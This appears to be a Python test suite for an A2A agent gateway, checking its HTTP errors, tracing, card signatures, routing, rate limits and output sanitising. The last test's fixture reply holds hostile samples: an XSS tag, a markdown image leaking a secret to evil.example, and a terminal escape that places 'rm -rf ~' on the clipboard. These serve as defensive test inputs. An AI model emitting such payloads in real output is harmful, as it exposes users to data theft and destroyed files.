"""The gateway's HTTP surface: errors, REST binding, trace context, cards, routing, operations."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from typing import Any

import aiohttp
import orjson
import pytest
import pytest_asyncio

from maestro_gateway.demo.servers import AgentServers, serve_apps
from maestro_gateway.registry.cards import verify_card_signatures
from tests.conftest import TIMEOUT, RunningGateway, start_gateway
from tests.upstreams import RecordingAgent

V10 = {"A2A-Version": "1.0"}
HTTP_TIMEOUT = aiohttp.ClientTimeout(total=TIMEOUT)


def send_params(text: str = "hello", **metadata: Any) -> dict[str, Any]:
    message: dict[str, Any] = {"messageId": "m1", "role": "ROLE_USER", "parts": [{"text": text}]}
    if metadata:
        message["metadata"] = metadata
    return {"message": message}


def rpc(method: str, params: Any, rid: Any = 1) -> dict[str, Any]:
    return {"jsonrpc": "2.0", "id": rid, "method": method, "params": params}


class Env:
    def __init__(self, gateway: RunningGateway, recorder: RecordingAgent) -> None:
        self.gateway = gateway
        self.url = gateway.url
        self.recorder = recorder


@pytest_asyncio.fixture(scope="module")
async def env(demo_agents: AgentServers, tmp_path_factory: Any) -> AsyncIterator[Env]:
    holder: dict[str, RecordingAgent] = {}

    def make(base: str) -> RecordingAgent:
        holder["rec"] = RecordingAgent(base)
        return holder["rec"]

    upstreams = await serve_apps({"recorder": make})
    agents = {
        "recorder": upstreams.urls["recorder"],
        "echo": demo_agents.urls["echo"],
        "writer": demo_agents.urls["writer"],
    }
    gateway = await start_gateway(tmp_path_factory.mktemp("http"), agents)
    try:
        yield Env(gateway, holder["rec"])
    finally:
        await gateway.close()
        await upstreams.close()


async def post(
    url: str, body: Any, headers: dict[str, str] | None = None, raw: bytes | None = None
) -> tuple[int, Any, dict[str, str]]:
    hdrs = {"Content-Type": "application/json", **V10, **(headers or {})}
    async with (
        aiohttp.ClientSession(timeout=HTTP_TIMEOUT) as http,
        http.post(url, json=None if raw is not None else body, data=raw, headers=hdrs) as resp,
    ):
        data = await resp.json(content_type=None)
        return resp.status, data, {k.lower(): v for k, v in resp.headers.items()}


async def get(url: str, headers: dict[str, str] | None = None) -> tuple[int, Any]:
    async with (
        aiohttp.ClientSession(timeout=HTTP_TIMEOUT) as http,
        http.get(url, headers={**V10, **(headers or {})}) as resp,
    ):
        text = await resp.read()
        try:
            import orjson

            return resp.status, orjson.loads(text)
        except ValueError:
            return resp.status, text.decode()


async def test_unknown_agent_is_404_with_jsonrpc_error(env: Env) -> None:
    """An agent that does not exist gets HTTP 404 and a JSON-RPC error with ErrorInfo."""
    status, data, _ = await post(f"{env.url}/agents/nobody", rpc("SendMessage", send_params()))
    assert status == 404
    assert data["error"]["data"][0]["@type"] == "type.googleapis.com/google.rpc.ErrorInfo"


async def test_oversized_body_is_413(env: Env) -> None:
    """A body above the size limit is refused with 413 before it is parsed."""
    raw = b'{"x":"' + b"a" * (1024 * 1024 + 10) + b'"}'
    status, data, _ = await post(f"{env.url}/agents/echo", None, raw=raw)
    assert status == 413
    assert data["error"]["data"][0]["reason"] == "BODY_TOO_LARGE"


async def test_wrong_content_type_is_415(env: Env) -> None:
    """A JSON-RPC body that is not declared as JSON gets ContentTypeNotSupported."""
    status, data, _ = await post(
        f"{env.url}/agents/echo", None, {"Content-Type": "text/plain"}, raw=b"{}"
    )
    assert status == 415
    assert data["error"]["code"] == -32005


async def test_non_utf8_charset_is_415(env: Env) -> None:
    """A body declared in another charset is refused."""
    headers = {"Content-Type": "application/json; charset=latin-1"}
    status, _, _ = await post(f"{env.url}/agents/echo", None, headers, raw=b"{}")
    assert status == 415


async def test_invalid_json_is_parse_error(env: Env) -> None:
    """Broken JSON gets -32700 with the JSON-RPC envelope (id null)."""
    status, data, _ = await post(f"{env.url}/agents/echo", None, raw=b'{"jsonrpc": ')
    assert status == 200
    assert data["error"]["code"] == -32700
    assert data["id"] is None


async def test_unsupported_version(env: Env) -> None:
    """An A2A-Version the gateway does not speak gets VersionNotSupported (-32009)."""
    _, data, _ = await post(
        f"{env.url}/agents/echo", rpc("SendMessage", send_params()), {"A2A-Version": "9.9"}
    )
    assert data["error"]["code"] == -32009


async def test_guard_denial_never_reaches_the_agent(env: Env) -> None:
    """A message with a bidi override is denied by C1 and the agent never sees it."""
    before = len(env.recorder.requests)
    status, data, _ = await post(
        f"{env.url}/agents/recorder", rpc("SendMessage", send_params("pay \u202e0001"), "x")
    )
    assert status == 200
    assert data["id"] == "x"
    assert data["error"]["code"] == -32602
    info = data["error"]["data"][0]
    assert info["reason"] == "GUARD_DENIED"
    assert info["metadata"] == {"guard": "validate", "rule": "bidi-override"}
    assert len(env.recorder.requests) == before


async def test_upstream_gets_reserialised_validated_params(env: Env) -> None:
    """The agent receives the validated, normalised params (not the client's raw bytes)."""
    raw = (
        b'{"jsonrpc":"2.0","id":1,"method":"SendMessage","params":{"message":'
        b'{"messageId":"m","role":"ROLE_USER","parts":[{"text":"cafe\\u0301"}]}}}'
    )
    status, data, _ = await post(f"{env.url}/agents/recorder", None, raw=raw)
    assert status == 200, data
    _, forwarded = env.recorder.requests[-1]
    assert forwarded["params"]["message"]["parts"][0]["text"] == "caf\u00e9"


async def test_traceparent_is_propagated(env: Env) -> None:
    """The caller's trace id reaches the agent with a new parent span; the request id too."""
    trace = "4bf92f3577b34da6a3ce929d0e0e4736"
    headers = {"traceparent": f"00-{trace}-00f067aa0ba902b7-01", "X-Request-Id": "req-123"}
    _, _, resp_headers = await post(
        f"{env.url}/agents/recorder", rpc("SendMessage", send_params()), headers
    )
    upstream_headers, _ = env.recorder.requests[-1]
    version, trace_id, parent, flags = upstream_headers["traceparent"].split("-")
    assert (version, trace_id, flags) == ("00", trace, "01")
    assert parent != "00f067aa0ba902b7"
    assert upstream_headers["x-request-id"] == "req-123"
    assert resp_headers["x-request-id"] == "req-123"


async def test_traceparent_is_started_when_absent(env: Env) -> None:
    """Without a caller trace the gateway starts one."""
    await post(f"{env.url}/agents/recorder", rpc("SendMessage", send_params()))
    upstream_headers, _ = env.recorder.requests[-1]
    assert len(upstream_headers["traceparent"].split("-")[1]) == 32


async def test_client_authorization_is_not_passed_through(env: Env) -> None:
    """The caller's credentials are not forwarded to the agent (no token passthrough)."""
    await post(
        f"{env.url}/agents/recorder",
        rpc("SendMessage", send_params()),
        {"Authorization": "Bearer secret", "Cookie": "s=1"},
    )
    upstream_headers, _ = env.recorder.requests[-1]
    assert "authorization" not in upstream_headers
    assert "cookie" not in upstream_headers


async def test_rest_send_message(env: Env) -> None:
    """The HTTP+JSON binding's message:send returns the bare SendMessageResponse."""
    headers = {"Content-Type": "application/a2a+json"}
    status, data, resp_headers = await post(
        f"{env.url}/agents/echo/rest/message:send", send_params("rest"), headers
    )
    assert status == 200
    assert resp_headers["content-type"] == "application/a2a+json"
    assert data["message"]["parts"][0]["text"] == "echo: rest"


async def test_rest_tenant_prefix_reaches_agent(env: Env) -> None:
    """A /{tenant}/ prefix becomes the request's tenant field upstream (for a task this
    caller created through the gateway: tasks it never saw are answered as not found)."""
    task = {"id": "t1", "contextId": "c1", "status": {"state": "TASK_STATE_WORKING"}}
    env.recorder.reply = {"task": task}
    try:
        headers = {"Content-Type": "application/a2a+json"}
        url = f"{env.url}/agents/recorder/rest/acme/message:send"
        assert (await post(url, send_params("start"), headers))[0] == 200
        env.recorder.reply = task
        status, data = await get(f"{env.url}/agents/recorder/rest/acme/tasks/t1?historyLength=2")
    finally:
        env.recorder.reply = None
    assert status == 200
    assert data["id"] == "t1"
    _, forwarded = env.recorder.requests[-1]
    assert forwarded["method"] == "GetTask"
    assert forwarded["params"] == {"id": "t1", "historyLength": 2, "tenant": "acme"}


async def test_rest_error_is_google_rpc_status(env: Env) -> None:
    """REST errors are google.rpc.Status objects with the HTTP status in `code`."""
    status, data = await get(f"{env.url}/agents/echo/rest/no/such/route/here")
    assert status == 404
    assert data["error"]["code"] == 404
    assert data["error"]["status"] == "NOT_FOUND"
    assert data["error"]["details"][0]["@type"].endswith("ErrorInfo")


async def test_served_card_points_at_gateway_and_verifies(env: Env) -> None:
    """The served card's URLs are the gateway's and its signature verifies with the JWKS."""
    status, card = await get(f"{env.url}/agents/echo/.well-known/agent-card.json")
    assert status == 200
    urls = {i["url"] for i in card["supportedInterfaces"]}
    assert urls == {f"{env.url}/agents/echo", f"{env.url}/agents/echo/rest"}
    _, jwks = await get(f"{env.url}/.well-known/jwks.json")
    trusted = {key["kid"]: key for key in jwks["keys"]}
    assert verify_card_signatures(card, trusted) in trusted
    tampered = {**card, "description": "evil"}
    with pytest.raises(Exception, match="signature"):
        verify_card_signatures(tampered, trusted)


async def test_router_by_skill_id(env: Env) -> None:
    """A message to `router` with metadata.skillId goes to an agent offering that skill."""
    status, data, _ = await post(
        f"{env.url}/agents/router", rpc("SendMessage", send_params("hi", skillId="summarize"))
    )
    assert status == 200
    assert data["result"]["message"]["parts"][0]["text"].startswith("echo: hi")


async def test_router_by_rule(env: Env) -> None:
    """A message matching a configured rule is routed to the rule's skill."""
    body = rpc("SendMessage", send_params("please write a report on gateways"))
    status, data, _ = await post(f"{env.url}/agents/router", body)
    assert status == 200
    assert "task" in data["result"]


async def test_router_unknown_skill_is_not_found(env: Env) -> None:
    """A skill no active agent offers is answered like a missing agent."""
    status, _, _ = await post(
        f"{env.url}/agents/router", rpc("SendMessage", send_params("x", skillId="nope"))
    )
    assert status == 404


async def test_router_card_lists_skills(env: Env) -> None:
    """The router's card lists the skills of all active agents."""
    status, card = await get(f"{env.url}/agents/router/.well-known/agent-card.json")
    assert status == 200
    assert {"echo", "summarize", "write-report"} <= {s["id"] for s in card["skills"]}


async def test_operations_endpoints(env: Env) -> None:
    """healthz and readyz answer; metrics count requests per agent and verdict."""
    assert (await get(f"{env.url}/healthz"))[0] == 200
    assert (await get(f"{env.url}/readyz")) == (200, {"ready": True})
    status, text = await get(f"{env.url}/metrics")
    assert status == 200
    assert 'maestro_requests_total{agent="echo",method="SendMessage",verdict="allow"}' in text
    assert "maestro_request_duration_seconds_bucket" in text
    assert 'maestro_guard_denials_total{guard="validate",rule="bidi-override"}' in text


async def test_wrong_method_is_405(env: Env) -> None:
    """GET on the JSON-RPC endpoint is refused with 405 and an Allow header."""
    async with (
        aiohttp.ClientSession(timeout=HTTP_TIMEOUT) as http,
        http.get(f"{env.url}/agents/echo") as resp,
    ):
        assert resp.status == 405
        assert resp.headers["Allow"] == "POST"


async def test_unreachable_agent_is_502(env: Env, tmp_path_factory: Any) -> None:
    """An agent that is down gets a clean InvalidAgentResponse error, not a 500."""
    servers = await serve_apps({"gone": RecordingAgent})
    gone_url = servers.urls["gone"]
    await env.gateway.app.registry.register("gone", actor="test", card_url=gone_url)
    from maestro_gateway.registry.models import AgentState

    await env.gateway.app.registry.transition("gone", AgentState.ACTIVE, actor="test2")
    await servers.close()
    status, data, _ = await post(f"{env.url}/agents/gone", rpc("SendMessage", send_params()))
    assert status == 200
    assert data["error"]["code"] == -32006
    await asyncio.sleep(0)


async def test_extension_header_with_control_characters_is_refused(env: Env) -> None:
    """An A2A-Extensions value with control characters is refused, never passed upstream."""
    before = len(env.recorder.requests)
    host, port = env.url.removeprefix("http://").split(":")
    body = orjson.dumps(rpc("SendMessage", send_params()))
    reader, writer = await asyncio.open_connection(host, int(port))  # clients refuse to send it
    writer.write(
        b"POST /agents/recorder HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"A2A-Version: 1.0\r\nA2A-Extensions: urn:a\x1fb\r\nConnection: close\r\n"
        b"Content-Length: %d\r\n\r\n%s" % (len(body), body)
    )
    response = await asyncio.wait_for(reader.read(), TIMEOUT)
    writer.close()
    head, _, payload = response.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 ")
    if b" 200 " in head.split(b"\r\n")[0]:  # the server let it through: the gateway refuses
        assert orjson.loads(payload)["error"]["code"] == -32600
    else:  # the HTTP server itself refused the header
        assert head.split(b" ")[1] == b"400"
    assert len(env.recorder.requests) == before


async def test_extension_header_is_forwarded(env: Env) -> None:
    """A well-formed A2A-Extensions header reaches the agent."""
    await post(
        f"{env.url}/agents/recorder",
        rpc("SendMessage", send_params()),
        {"A2A-Extensions": "https://example.com/ext/v1"},
    )
    upstream_headers, _ = env.recorder.requests[-1]
    assert upstream_headers["a2a-extensions"] == "https://example.com/ext/v1"


async def test_rate_limit_through_the_gateway(
    demo_agents: AgentServers, tmp_path_factory: Any
) -> None:
    """Past the limit a caller gets 429 with Retry-After and RateLimit headers; the agent is
    not called; concurrency slots are given back after each request."""
    limits = {
        "ratelimit": {
            "limits": [{"name": "per-source", "key": ["source", "agent"], "rate": "3/min"}],
            "concurrency": [{"name": "one-at-a-time", "key": ["source"], "max_in_flight": 1}],
        }
    }
    gw = await start_gateway(
        tmp_path_factory.mktemp("rl"), {"echo": demo_agents.urls["echo"]}, guards=limits
    )
    try:
        for _ in range(3):  # sequential: the single concurrency slot is released each time
            status, data, _ = await post(f"{gw.url}/agents/echo", rpc("SendMessage", send_params()))
            assert "result" in data, data
        status, data, headers = await post(
            f"{gw.url}/agents/echo", rpc("SendMessage", send_params())
        )
        assert status == 429
        assert data["error"]["code"] == -32090
        assert data["error"]["data"][0]["metadata"]["rule"] == "per-source"
        assert int(headers["retry-after"]) > 0
        assert headers["ratelimit-policy"].startswith('"per-source"')
        _, text = await get(f"{gw.url}/metrics")
        labels = 'backend="memory",limit="per-source",outcome="denied"'
        assert f"maestro_ratelimit_decisions_total{{{labels}}} 1.0" in text
    finally:
        await gw.close()


async def test_agent_output_is_sanitised(env: Env) -> None:
    """Hostile HTML and a markdown exfiltration image in an agent's reply are neutralised."""
    env.recorder.reply = {
        "message": {
            "messageId": "r",
            "role": "ROLE_AGENT",
            "parts": [
                {
                    "text": '<p>hi</p><img src=x onerror="alert(1)"><script>steal()</script>',
                    "mediaType": "text/html",
                },
                {
                    "text": "done ![x](https://evil.example/leak?d=SECRET)",
                    "mediaType": "text/markdown",
                },
                {"text": "plain \x1b]52;c;cm0gLXJmIH4=\x07text"},
            ],
        }
    }
    try:
        _, data, _ = await post(f"{env.url}/agents/recorder", rpc("SendMessage", send_params()))
    finally:
        env.recorder.reply = None
    html, markdown, plain = (p["text"] for p in data["result"]["message"]["parts"])
    assert "<p>hi</p>" in html
    assert "onerror" not in html
    assert "script" not in html
    assert "evil.example" not in markdown
    assert plain == "plain text"
